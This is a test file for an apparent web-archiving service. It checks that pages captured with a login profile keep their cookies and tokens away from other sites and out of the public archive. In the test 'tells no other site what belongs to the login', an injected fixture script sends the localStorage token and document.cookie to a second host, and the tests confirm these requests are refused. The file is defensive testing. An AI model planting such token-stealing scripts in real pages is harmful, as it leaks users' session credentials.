import { afterEach, describe, expect, test } from 'vitest';
import type { ArchivedDraw, PageCapture, PageList } from '../../../shared/collection/page.ts';
import type { PageResources } from '../../../shared/collection/view.ts';
import { filesWith } from '../../copies/withheldCopies.ts';
import {
  page as answer,
  closeScriptedWebs,
  ScriptedWeb,
  type Step,
} from '../../support/network/scriptedWeb.ts';
import { closeTestNodes, DERIVING } from '../../support/node.ts';
import { type CollectingNode, openCollectingNode } from '../support.ts';
import { addProfile, CANARY, cookie, cookiesOf, members, readProfile } from './support.ts';

afterEach(async () => {
  await closeTestNodes();
  await closeScriptedWebs();
});

const HTML = { 'content-type': 'text/html; charset=utf-8' };
const JSON_TYPE = { 'content-type': 'application/json' };
const TOKEN = 'token-7hGq2PzX81';

/** A page that its script fills with what the login shows, and with what the browser knows of it. */
const APP = `<!doctype html><html><head><title>Inbox of Ada</title><script src="/app.js"></script></head>
<body><p id="who"></p><p id="cookies"></p><p id="token"></p><img src="/face.png" alt=""></body></html>`;
const SCRIPT = `
  const put = (id, text) => { document.getElementById(id).textContent = text; };
  addEventListener('DOMContentLoaded', async () => {
    put('cookies', 'script sees ' + document.cookie.replace(/=[^;]*/g, ''));
    put('token', localStorage.getItem('token') === null ? 'no token' : 'has a token of ' + localStorage.length);
    const me = await fetch('/me?t=' + localStorage.getItem('token'), { method: 'POST', body: 'for ' + document.cookie.length + (new URLSearchParams(location.search).get('t') ?? '') });
    await fetch('/note', { method: 'POST', body: 'for ' + localStorage.getItem('token') });
    put('who', me.ok ? (await me.json()).name : 'nobody');
  });`;

function me(value = CANARY): Step {
  return (socket, request) =>
    request.headers.cookie?.includes(`sid=${value}`)
      ? answer('{"name":"Ada, frangipane"}', { headers: JSON_TYPE })(socket, request)
      : answer('{}', { status: 401, headers: JSON_TYPE })(socket, request);
}

function script(web: ScriptedWeb): void {
  web.script('/', members(APP, CANARY, HTML));
  web.script('/login?next=x', answer('<p>Log in</p>', { headers: HTML }));
  web.script('/app.js', answer(SCRIPT, { headers: { 'content-type': 'text/javascript' } }));
  web.script('/face.png', answer('face', { headers: { 'content-type': 'image/png' } }));
  web.script('/note', answer('noted'));
  for (const token of [TOKEN, 'null']) web.script(`/me?t=${token}`, me());
}

const state = (web: ScriptedWeb) => ({
  site: '127.0.0.1',
  storage_state: {
    cookies: [
      cookie(),
      cookie('seen-by-scripts', { name: 'theme', httpOnly: false }),
      cookie('only-encrypted', { name: 'strict', secure: true }),
    ],
    origins: [
      { origin: web.url('/').replace(/\/$/, ''), localStorage: [{ name: 'token', value: TOKEN }] },
      { origin: 'https://other.example', localStorage: [{ name: 'token', value: 'other' }] },
    ],
  },
});

async function pagesOf(node: CollectingNode, source: string): Promise<PageCapture[]> {
  const { items } = await node.read<PageList>(`/archive/pages?source=${source}`);
  return Promise.all(items.map(({ id }) => node.read<PageCapture>(`/archive/pages/${id}`)));
}

async function textOf(node: CollectingNode, sha256: string | undefined): Promise<string> {
  return (await node.node.fetchAsOwner(`/archive/${sha256}`)).text();
}

describe('a page that is drawn with a profile', () => {
  test('has its cookies and its storage, sends them to the site only, and is withheld with all its parts', async () => {
    const web = await ScriptedWeb.open();
    script(web);
    const node = await openCollectingNode({}, DERIVING);
    const profile = await addProfile(node, state(web));
    expect(profile).toMatchObject({ cookies: 3, storage_items: 1, left_out: 1 });
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile: profile.id });
    expect(await node.check()).toMatchObject({ failed: 0 });
    const [page] = await pagesOf(node, id);
    expect(await textOf(node, page?.text)).toBe('Ada, frangipane\nscript sees theme\nhas a token of 1\n');
    expect(await node.source(id)).toMatchObject({ login: 'works', page_error: null });
    // The secure cookie is not sent without encryption, though browsers do that on this machine.
    const sent = `sid=${CANARY}; theme=seen-by-scripts`;
    expect(
      ['/', '/app.js', '/face.png', '/note', `/me?t=${TOKEN}`].map((path) => cookiesOf(web, path)),
    ).toEqual(Array(5).fill([sent]));

    // The record is public, so nothing of the login is in it.
    expect(page).toMatchObject({ title: '', outcome: 'complete' });
    expect(page?.requests.map(({ url }) => url)).toContain(web.url('/me?t=withheld'));
    const parts = await node.read<{ items: { retrieval: { request: unknown } }[] }>(
      `/api/retrievals?part_of=${page?.id}`,
    );
    const records = JSON.stringify([page, parts, await node.retrievals(id), await node.events()]);
    for (const secret of [CANARY, TOKEN, 'Inbox of Ada', 'frangipane']) expect(records).not.toContain(secret);
    const requests = await node.read<{ items: { retrieval: { request: { body?: { sha256: string } } } }[] }>(
      `/api/retrievals?part_of=${page?.id}`,
    );
    const body = requests.items.flatMap(({ retrieval }) => retrieval.request?.body?.sha256 ?? []);
    expect(body).toHaveLength(1);
    const digests = [page?.document, page?.text, page?.picture, ...body];
    for (const { sha256 } of page?.requests ?? []) digests.push(sha256 ?? undefined);
    for (const sha256 of digests) expect((await node.node.fetch(`/archive/${sha256}`)).status).toBe(451);
    for (const path of ['picture', 'text', 'document', 'thumbnail'])
      expect((await node.node.fetch(`/archive/pages/${page?.id}/${path}`)).status).toBe(451);
    expect(await (await node.node.fetch('/api/search?q=frangipane')).json()).toMatchObject({ total: 0 });
    expect(await node.read('/api/ledger/verify')).toMatchObject({ ok: true });

    // Drawing again uses the archive only.
    const asked = web.requestCount;
    const drawn = await node.node.sendJson('POST', `/archive/pages/${page?.id}/draw`, {});
    const { requests: drawnFrom } = (await drawn.json()) as ArchivedDraw;
    expect(drawnFrom.map(({ from }) => from).sort()).toEqual(['archive', 'archive', 'archive', 'refused']);
    expect(web.requestCount).toBe(asked);
    // The bytes of the site are on the disk, and nothing of the profile in the clear.
    for (const secret of [CANARY, TOKEN]) expect(await filesWith(node.node.dataFolder, secret)).toEqual([]);
  });

  test('tells no other site what belongs to the login', async () => {
    const web = await ScriptedWeb.open();
    const other = await ScriptedWeb.open({ host: '127.0.0.2' });
    const leak = `<script>
      fetch('${other.url('/collect?c=')}' + localStorage.getItem('token'));
      fetch('${other.url('/plain')}', { headers: { 'x-extra': document.cookie }, mode: 'cors' });
      fetch('${other.url('/fine')}', { mode: 'no-cors', credentials: 'include' });
    </script><p>Page</p>`;
    web.script('/', members(leak, CANARY, HTML));
    other.script('/fine', answer('fine', { headers: { 'set-cookie': 'third=party' } }));
    const node = await openCollectingNode();
    const profile = await addProfile(node, state(web));
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile: profile.id });
    await node.check();
    const [page] = await pagesOf(node, id);
    expect(other.requests('/fine').map(({ headers }) => headers.cookie)).toEqual([undefined]);
    expect(other.requestCount).toBe(1);
    expect(
      page?.requests
        .filter(({ from }) => from === 'refused')
        .map(({ url, reason }) => [url, reason])
        .sort(),
    ).toEqual([
      [other.url('/collect?c=withheld'), 'login'],
      [other.url('/plain'), 'login'],
    ]);
  });

  test('keeps the cookies that its parts set, and its next page has them', async () => {
    const web = await ScriptedWeb.open();
    script(web);
    web.script('/face.png', answer('face', { headers: { 'set-cookie': 'seen=face-cookie; Path=/' } }));
    const node = await openCollectingNode();
    const profile = await addProfile(node, state(web));
    await node.watch(web.url('/'), { capture: 'page', profile: profile.id });
    await node.check();
    expect(await readProfile(node, profile.id)).toMatchObject({ cookies: 4 });
    await node.check();
    expect(cookiesOf(web, '/')[1]).toContain('seen=face-cookie');
    expect(cookiesOf(web, '/app.js')[1]).toContain('seen=face-cookie');
  });

  test('is not kept where its scripts lead to a login page, which is no change and is said once', async () => {
    const web = await ScriptedWeb.open();
    script(web);
    const node = await openCollectingNode();
    const { id: profile } = await addProfile(node, state(web));
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    const before = await node.timeline();
    web.script(
      '/app.js',
      answer(`location = '/login?next=x'`, { headers: { 'content-type': 'text/javascript' } }),
    );
    for (let round = 0; round < 2; round += 1) {
      await node.check();
      expect(await node.source(id)).toMatchObject({ login: 'expired', page_error: 'profile_expired' });
    }
    const { expired_at, ...expired } = await readProfile(node, profile);
    expect(expired).toMatchObject({ state: 'expired', expired_reason: 'login_page', expired_source: id });
    expect(expired_at).not.toBeNull();
    expect(await node.timeline()).toEqual(before);
    expect(await pagesOf(node, id)).toHaveLength(1);
    web.script('/app.js', answer(SCRIPT, { headers: { 'content-type': 'text/javascript' } }));
    await node.check();
    expect(await node.source(id)).toMatchObject({ login: 'works', page_error: null });
  });

  test('gives nothing to the page of a source that is watched without', async () => {
    const web = await ScriptedWeb.open();
    script(web);
    web.script(
      '/open',
      answer('<img src="/face.png" alt=""><img src="/gone.png" alt=""><p>Open</p>', { headers: HTML }),
    );
    web.script('/gone.png', answer('mine', { headers: { 'content-type': 'image/png' } }));
    web.script('/two', members('<img src="/gone.png" alt="">', CANARY, HTML));
    const node = await openCollectingNode();
    const { id: profile } = await addProfile(node, state(web));
    const { id: two } = await node.watch(web.url('/two'), { capture: 'page', profile });
    await node.check();
    web.script('/gone.png', (socket) => void socket.resetAndDestroy());
    const open = await node.watch(web.url('/open'), { capture: 'page' });
    await node.check([open.id]);
    expect(cookiesOf(web, '/open')).toEqual([undefined]);
    expect(cookiesOf(web, '/face.png')).toEqual([undefined]);
    const [page] = await pagesOf(node, open.id);
    const drawn = (await (
      await node.node.sendJson('POST', `/archive/pages/${page?.id}/draw`, {})
    ).json()) as ArchivedDraw;
    expect(drawn.requests.find(({ url }) => url === web.url('/gone.png'))).toMatchObject({
      from: 'refused',
      reason: 'not_held',
    });
    const { last_sha256 } = await node.source(open.id);
    const shown = await node.read<PageResources>(`/archive/${last_sha256}/page/resources`);
    expect(shown.missing).toContainEqual({ url: web.url('/gone.png'), reason: 'withheld' });
    // The page that had it has it still.
    const [own] = await pagesOf(node, two);
    const again = (await (
      await node.node.sendJson('POST', `/archive/pages/${own?.id}/draw`, {})
    ).json()) as ArchivedDraw;
    expect(again.requests.map(({ from }) => from)).toEqual(['archive', 'archive']);
  });
});

describe('a page of a login, drawn again and again,', () => {
  const APP = `<!doctype html><p id="who">Hello</p><script>addEventListener('DOMContentLoaded', () => fetch('/me'));</script>`;

  async function open() {
    const web = await ScriptedWeb.open();
    web.script('/', members(APP, CANARY, HTML));
    web.script('/me', answer('{"balance":1}'), answer('{"balance":2}'), answer('{"balance":3}'));
    const node = await openCollectingNode({}, DERIVING);
    const { id: profile } = await addProfile(node);
    return { web, node, profile };
  }
  const partOf = (pageCapture: PageCapture | undefined) =>
    pageCapture?.requests.find(({ url }) => url.endsWith('/me'))?.sha256;

  test('is withheld with parts that are new, also if it looks as before', async () => {
    const { web, node, profile } = await open();
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    await node.check();
    const [second, first] = await pagesOf(node, id);
    expect(second?.text).toBe(first?.text);
    expect(second?.picture).toBe(first?.picture);
    expect(partOf(second)).not.toBe(partOf(first));
    for (const one of [first, second])
      expect((await node.node.fetch(`/archive/${partOf(one)}`)).status).toBe(451);
  });

  test('stays shown with what the owner has shown, and what is new is withheld', async () => {
    const { web, node, profile } = await open();
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    const [first] = await pagesOf(node, id);
    const { items } = await node.read<{ items: { page: string | null; retrieval: number | null }[] }>(
      '/api/withheld',
    );
    for (const { page: of, retrieval } of items)
      await node.node.sendJson('DELETE', '/manage/withheld', of ? { page: of } : { retrieval });
    const visitor = async (digests: (string | null | undefined)[]) =>
      Promise.all(digests.map(async (sha256) => (await node.node.fetch(`/archive/${sha256}`)).status));
    const shown = [
      first?.text,
      first?.document,
      first?.picture,
      partOf(first),
      (await node.source(id)).last_sha256,
    ];
    expect(await visitor(shown)).toEqual([200, 200, 200, 200, 200]);
    await node.check();
    const [second] = await pagesOf(node, id);
    expect(second?.text).toBe(first?.text);
    expect(await visitor(shown)).toEqual([200, 200, 200, 200, 200]);
    expect(await visitor([partOf(second)])).toEqual([451]);
  });

  test('hides nothing again that the owner has shown, if it looks different', async () => {
    const { web, node, profile } = await open();
    const filled = `<!doctype html><p id="who"></p><script>addEventListener('DOMContentLoaded', async () => {
      who.textContent = (await (await fetch('/me')).json()).balance + ' euros';
    });</script>`;
    web.script('/', members(filled, CANARY, HTML));
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    const [first] = await pagesOf(node, id);
    const show = async (target: object) =>
      expect((await node.node.sendJson('DELETE', '/manage/withheld', target)).status).toBe(200);
    const ofPage = (one: PageCapture | undefined) => [one?.text, one?.document, one?.picture, partOf(one)];
    const visitor = async (digests: (string | null | undefined)[]) =>
      Promise.all(digests.map(async (sha256) => (await node.node.fetch(`/archive/${sha256}`)).status));
    await show({ retrieval: first?.retrieval });
    const { last_sha256 } = await node.source(id);
    expect(await visitor([last_sha256, ...ofPage(first)])).toEqual([200, 451, 451, 451, 451]);
    await show({ page: first?.id });
    await node.check();
    const [second] = await pagesOf(node, id);
    expect(second?.text).not.toBe(first?.text);
    expect(await visitor([last_sha256, ...ofPage(first)])).toEqual([200, 200, 200, 200, 200]);
    expect(await visitor(ofPage(second))).toEqual([451, 451, 451, 451]);
    // Each page has a withholding of its own, so none covers another.
    await node.check();
    const [third] = await pagesOf(node, id);
    const { items } = await node.read<{ items: { page: string | null; objects: number }[] }>('/api/withheld');
    expect(items).toEqual(
      [third, second].map((one) => expect.objectContaining({ page: one?.id, objects: 4 })),
    );
    expect(await node.read('/api/ledger/verify')).toMatchObject({ ok: true });
  });

  test('is not shown with its document, which may say nothing by itself', async () => {
    const { web, node, profile } = await open();
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    const show = async (target: object) =>
      expect((await node.node.sendJson('DELETE', '/manage/withheld', target)).status).toBe(200);
    const visitor = async (digests: (string | null | undefined)[]) =>
      Promise.all(digests.map(async (sha256) => (await node.node.fetch(`/archive/${sha256}`)).status));
    const [first] = await pagesOf(node, id);
    await show({ retrieval: first?.retrieval });
    expect(await visitor([first?.text, first?.document, first?.picture, partOf(first)])).toEqual(
      Array(4).fill(451),
    );
    // The next one has the same document, and what it was answered is withheld for itself, too.
    await node.check();
    await show({ page: first?.id });
    const [second] = await pagesOf(node, id);
    expect(second?.text).toBe(first?.text);
    const { last_sha256 } = await node.source(id);
    expect(await visitor([last_sha256, first?.text, first?.picture, partOf(first), partOf(second)])).toEqual([
      200, 200, 200, 200, 451,
    ]);
    expect(await node.read('/api/ledger/verify')).toMatchObject({ ok: true });
  });

  test('is kept also if it sends what was given up', async () => {
    const web = await ScriptedWeb.open();
    const body = 'what the script sends';
    web.script(
      '/',
      members(`<script>fetch('/note', { method: 'POST', body: '${body}' })</script>`, CANARY, HTML),
    );
    web.script('/note', answer('noted'));
    const node = await openCollectingNode();
    const { id: profile } = await addProfile(node);
    const { id } = await node.watch(web.url('/'), { capture: 'page', profile });
    await node.check();
    const [first] = await pagesOf(node, id);
    const parts = await node.read<{ items: { retrieval: { request: { body?: { sha256: string } } } }[] }>(
      `/api/retrievals?part_of=${first?.id}`,
    );
    const [sha256] = parts.items.flatMap(({ retrieval }) => retrieval.request?.body?.sha256 ?? []);
    const released = await node.node.sendJson('POST', '/manage/released', { sha256, reason: 'owner' });
    expect(released.ok).toBe(true);
    await node.check();
    expect(await node.source(id)).toMatchObject({ page_error: null });
    expect(await pagesOf(node, id)).toHaveLength(2);
  });

  test('has the cookies of the profile in the place of a header of the source', async () => {
    const web = await ScriptedWeb.open();
    web.script('/', members('<script src="/app.js"></script>', CANARY, HTML));
    web.script('/app.js', answer('1'));
    const node = await openCollectingNode();
    const { id: profile } = await addProfile(node);
    await node.watch(web.url('/'), { capture: 'page', profile, headers: { Cookie: 'old=one' } });
    await node.check();
    expect(cookiesOf(web, '/')).toEqual([`sid=${CANARY}`]);
    expect(cookiesOf(web, '/app.js')).toEqual([`sid=${CANARY}`]);
  });
});
